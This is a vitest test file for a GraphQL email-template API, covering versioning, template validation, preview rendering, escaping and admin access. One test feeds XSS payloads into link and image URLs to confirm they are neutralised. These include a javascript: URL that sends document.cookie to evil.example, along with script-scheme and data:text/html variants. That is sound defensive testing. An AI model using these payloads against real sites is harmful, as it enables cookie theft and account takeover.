import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildTestApp, type TestApp } from './helpers/app'
import { expectData, MARKETING_HTML, TEMPLATE_FIELDS, type GqlError } from './campaign-fixtures'

let t: TestApp
let admin: string

beforeAll(async () => {
  t = await buildTestApp()
  admin = t.token('admin')
})
afterAll(() => t.close())

type TemplateResult = GqlError & { emailTemplate?: Record<string, unknown> & { id: string; latestVersion: number; versions: { version: number; subject: string; text: string; textGenerated: boolean }[] } }

const RESULT = `__typename
  ... on EmailTemplateSuccess { emailTemplate { ${TEMPLATE_FIELDS} } }
  ... on EmailTemplateValidationError { message problems { part line column message } }
  ... on ValidationError { message fieldErrors { path message } }
  ... on Error { message }`

async function create(input: Record<string, unknown>): Promise<TemplateResult> {
  const res = await t.gql<{ createEmailTemplate: TemplateResult }>(
    `mutation($input: CreateEmailTemplateInput!) { createEmailTemplate(input: $input) { ${RESULT} } }`,
    { input: { name: 'T', kind: 'MARKETING', subject: 'Hello {{name}}', html: MARKETING_HTML, variables: [{ name: 'company' }], ...input } },
    admin,
  )
  return expectData(res).createEmailTemplate
}

async function update(id: string, input: Record<string, unknown>): Promise<TemplateResult> {
  const res = await t.gql<{ updateEmailTemplate: TemplateResult }>(`mutation($id: ID!, $input: UpdateEmailTemplateInput!) { updateEmailTemplate(id: $id, input: $input) { ${RESULT} } }`, { id, input }, admin)
  return expectData(res).updateEmailTemplate
}

async function publish(id: string): Promise<TemplateResult> {
  return expectData(await t.gql<{ publishEmailTemplate: TemplateResult }>(`mutation($id: ID!) { publishEmailTemplate(id: $id) { ${RESULT} } }`, { id }, admin)).publishEmailTemplate
}

async function preview(id: string, data: unknown, version?: number) {
  const res = await t.gql<{ previewEmailTemplate: GqlError & { preview?: { subject: string; html: string; text: string; version: number | null } } }>(
    `mutation($id: ID!, $data: JSON, $version: Int) { previewEmailTemplate(id: $id, data: $data, version: $version) {
      __typename ... on PreviewEmailSuccess { preview { subject html text version } }
      ... on MissingTemplateVariablesError { message variables }
      ... on Error { message } } }`,
    { id, data, version },
    admin,
  )
  return expectData(res).previewEmailTemplate
}

describe('template versions', () => {
  it('freezes the draft as version 1 on publish and keeps it while the draft is edited', async () => {
    const created = await create({ subject: 'First {{name}}' })
    const id = created.emailTemplate!.id
    expect(created.emailTemplate!.latestVersion).toBe(0)

    const v1 = await publish(id)
    expect(v1.emailTemplate).toMatchObject({ latestVersion: 1, versions: [{ version: 1, subject: 'First {{name}}' }] })

    await update(id, { subject: 'Second {{name}}' })
    const afterEdit = await preview(id, { name: 'Ann' }, 1)
    expect(afterEdit.preview).toMatchObject({ subject: 'First Ann', version: 1 })
    expect((await preview(id, { name: 'Ann' })).preview).toMatchObject({ subject: 'Second Ann', version: null })

    const v2 = await publish(id)
    expect(v2.emailTemplate!.versions.map((v) => [v.version, v.subject])).toEqual([
      [2, 'Second {{name}}'],
      [1, 'First {{name}}'],
    ])
  })

  it('does not mint a new version when an unchanged draft is published again', async () => {
    const id = (await create({})).emailTemplate!.id
    await publish(id)
    const again = await publish(id)
    expect(again.emailTemplate!.latestVersion).toBe(1)
    expect(again.emailTemplate!.versions).toHaveLength(1)
  })

  it('generates the text part from the HTML, keeping the unsubscribe link', async () => {
    const id = (await create({})).emailTemplate!.id
    const published = await publish(id)
    const [version] = published.emailTemplate!.versions
    expect(version!.textGenerated).toBe(true)
    expect(version!.text).toContain('Unsubscribe ({{unsubscribeUrl}})')
    const rendered = await preview(id, { name: 'Bo', company: 'ACME' }, 1)
    expect(rendered.preview!.text).toBe('Hi Bo, news for ACME.\n\nUnsubscribe (https://example.com/unsubscribe/preview)\n')
  })
})

describe('template validation', () => {
  it('reports a syntax error with its line and column and saves nothing', async () => {
    const result = await create({ html: '<p>Hello</p>\n<p>{{name}</p>\n{{unsubscribeUrl}}' })
    expect(result.__typename).toBe('EmailTemplateValidationError')
    expect(result.problems).toEqual([expect.objectContaining({ part: 'HTML', line: 2, column: 10 })])
    expect(result.problems![0]!.message).toMatch(/^Syntax error/)
    const list = expectData(await t.gql<{ emailTemplates: { edges: { node: { name: string } }[] } }>('{ emailTemplates(first: 100) { edges { node { name } } } }', {}, admin))
    expect(list.emailTemplates.edges.every((e) => e.node.name !== 'broken')).toBe(true)
  })

  it('reports a mismatched block with its position', async () => {
    const result = await create({ html: '{{unsubscribeUrl}}\n{{#if company}}\n  x\n{{/each}}' })
    expect(result.__typename).toBe('EmailTemplateValidationError')
    expect(result.problems![0]).toMatchObject({ part: 'HTML', line: 2 })
    expect(result.problems![0]!.message).toContain("if doesn't match each")
  })

  it('reports every undeclared variable with its position, in each part', async () => {
    const result = await create({ subject: 'Hi {{firstName}}', html: `${MARKETING_HTML}\n<p>{{coupon.code}}</p>` })
    expect(result.__typename).toBe('EmailTemplateValidationError')
    expect(result.problems).toEqual([
      { part: 'SUBJECT', line: 1, column: 6, message: expect.stringContaining('"firstName"') },
      { part: 'HTML', line: 2, column: 6, message: expect.stringContaining('"coupon.code"') },
    ])
  })

  it('accepts variables read inside each and with blocks relative to the item, and @root paths', async () => {
    const html = `${MARKETING_HTML}{{#each items as |item|}}{{item.title}} {{@index}} {{@root.company}}{{/each}}{{#with company}}{{this}}{{/with}}`
    const result = await create({ html, variables: [{ name: 'company' }, { name: 'items' }], sampleData: { items: [{ title: 'A' }] } })
    expect(result.__typename).toBe('EmailTemplateSuccess')
  })

  it('refuses a marketing template without the unsubscribe placeholder, in HTML and in an explicit text', async () => {
    const result = await create({ html: '<p>Hi {{name}}</p>', text: 'Hi {{name}}' })
    expect(result.__typename).toBe('EmailTemplateValidationError')
    expect(result.problems!.map((p) => p.part)).toEqual(['HTML', 'TEXT'])
    expect(result.problems![0]!.message).toContain('{{unsubscribeUrl}}')
  })

  it('lets a transactional template leave out the unsubscribe link', async () => {
    const result = await create({ kind: 'TRANSACTIONAL', html: '<p>Your code is {{code}}</p>', variables: [{ name: 'code', required: true }] })
    expect(result.__typename).toBe('EmailTemplateSuccess')
  })

  it('refuses unescaped output, unknown helpers and partials in HTML', async () => {
    const result = await create({ html: `${MARKETING_HTML}{{{company}}} {{shout company}} {{> footer}}` })
    expect(result.problems!.map((p) => p.message)).toEqual([
      expect.stringContaining('Unescaped output {{{company}}}'),
      expect.stringContaining('Unknown helper "shout"'),
      expect.stringContaining('Partials are not supported'),
    ])
  })

  it('runs a test render with the sample data and reports where it fails', async () => {
    const result = await create({ html: `${MARKETING_HTML}<p>{{company.name}}</p>`, sampleData: { company: 'ACME' } })
    expect(result.__typename).toBe('EmailTemplateValidationError')
    expect(result.problems![0]).toMatchObject({ part: 'SAMPLE_DATA', message: expect.stringContaining('Render failed') })
  })

  it('refuses bad declarations: invalid names, duplicates, a required variable with a fallback', async () => {
    const result = await create({
      variables: [{ name: 'company' }, { name: 'company' }, { name: '9lives' }, { name: 'code', required: true, fallback: 'x' }],
    })
    expect(result.problems!.map((p) => [p.part, p.message])).toEqual([
      ['VARIABLES', expect.stringContaining('declared twice')],
      ['VARIABLES', expect.stringContaining('not a valid variable name')],
      ['VARIABLES', expect.stringContaining('fallback would never be used')],
    ])
  })

  it('checks an update in full and keeps the old draft when it fails', async () => {
    const id = (await create({})).emailTemplate!.id
    const bad = await update(id, { html: '<p>{{#if}}</p>' })
    expect(bad.__typename).toBe('EmailTemplateValidationError')
    const good = await preview(id, { name: 'Cy' })
    expect(good.preview!.html).toContain('Hi Cy')
  })
})

describe('previewEmailTemplate', () => {
  it('escapes data in the HTML but not in the subject and text', async () => {
    const id = (await create({ subject: 'For {{company}}', variables: [{ name: 'company' }] })).emailTemplate!.id
    const rendered = await preview(id, { name: 'Dee', company: '<b>Tom & Jerry</b>' })
    expect(rendered.preview!.html).toContain('&lt;b&gt;Tom &amp; Jerry&lt;/b&gt;')
    expect(rendered.preview!.subject).toBe('For <b>Tom & Jerry</b>')
    expect(rendered.preview!.text).toContain('news for <b>Tom & Jerry</b>.')
  })

  it('renders a link or source built from data only to a web, mail, phone or inline-image URL', async () => {
    const id = (await create({
      html: `${MARKETING_HTML}<p><a href="{{website}}">site</a> <a href='{{website}}'>again</a> <img src="{{logo}}" alt=""> <a href="mailto:{{email}}">mail</a></p>`,
      variables: [{ name: 'company' }, { name: 'website' }, { name: 'logo' }],
    })).emailTemplate!.id
    const render = async (website: string, logo = 'https://cdn.example.com/l.png') => (await preview(id, { name: 'Ann', company: 'Acme', website, logo })).preview!.html
    for (const attack of ['javascript:fetch(`//evil.example/`+document.cookie)', ' JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>']) {
      const html = await render(attack)
      expect(html).toContain('<a href="#">site</a>')
      expect(html).toContain(`<a href="#">again</a>`)
      expect(html.toLowerCase()).not.toMatch(/script:|data:text/)
    }
    const fine = await render('https://acme.example/?a=1&b=2', 'data:image/png;base64,iVBORw0KGgo=')
    expect(fine).toContain('<a href="https://acme.example/?a&#x3D;1&amp;b&#x3D;2">site</a>')
    expect(fine).toContain('<img src="data:image/png;base64,iVBORw0KGgo&#x3D;" alt="">')
    expect(fine).toContain('<a href="mailto:')
    expect(await render('https://acme.example/', 'javascript:alert(1)')).toContain('<img src="#" alt="">')
  })

  it('uses the fallback of a missing optional variable and reports a missing required one', async () => {
    const id = (await create({
      html: `${MARKETING_HTML}<p>Code {{coupon}}</p>`,
      variables: [{ name: 'company', fallback: 'your team' }, { name: 'coupon', required: true }],
    })).emailTemplate!.id
    const withFallback = await preview(id, { name: 'Eve', coupon: 'SPRING' })
    expect(withFallback.preview!.html).toContain('news for your team.')
    const missing = await preview(id, { name: 'Eve' })
    expect(missing).toMatchObject({ __typename: 'MissingTemplateVariablesError', variables: ['coupon'] })
  })

  it('returns NotFoundError for an unknown version', async () => {
    const id = (await create({})).emailTemplate!.id
    expect((await preview(id, {}, 7)).__typename).toBe('NotFoundError')
  })
})

describe('template access', () => {
  it('refuses a non-admin with FORBIDDEN and no token with UNAUTHENTICATED', async () => {
    const forbidden = await t.gql('{ emailTemplates { edges { cursor } } }', {}, t.token('service'))
    expect(forbidden.errors![0]!.extensions!.code).toBe('FORBIDDEN')
    const anonymous = await t.gql('{ emailTemplates { edges { cursor } } }')
    expect(anonymous.errors![0]!.extensions!.code).toBe('UNAUTHENTICATED')
  })

  it('pages through templates with first/after', async () => {
    const first = expectData(await t.gql<{ emailTemplates: { edges: { cursor: string }[]; pageInfo: { hasNextPage: boolean; endCursor: string } } }>('{ emailTemplates(first: 2) { edges { cursor } pageInfo { hasNextPage endCursor } } }', {}, admin))
    expect(first.emailTemplates.edges).toHaveLength(2)
    expect(first.emailTemplates.pageInfo.hasNextPage).toBe(true)
    const next = expectData(await t.gql<{ emailTemplates: { edges: { cursor: string }[] } }>('query($after: String) { emailTemplates(first: 2, after: $after) { edges { cursor } } }', { after: first.emailTemplates.pageInfo.endCursor }, admin))
    expect(next.emailTemplates.edges[0]!.cursor).not.toBe(first.emailTemplates.edges[1]!.cursor)
    const tooMany = await t.gql<{ emailTemplates: unknown }>('{ emailTemplates(first: 101) { edges { cursor } } }', {}, admin)
    expect(tooMany.errors![0]!.message).toContain('first must be between 1 and 100')
  })
})
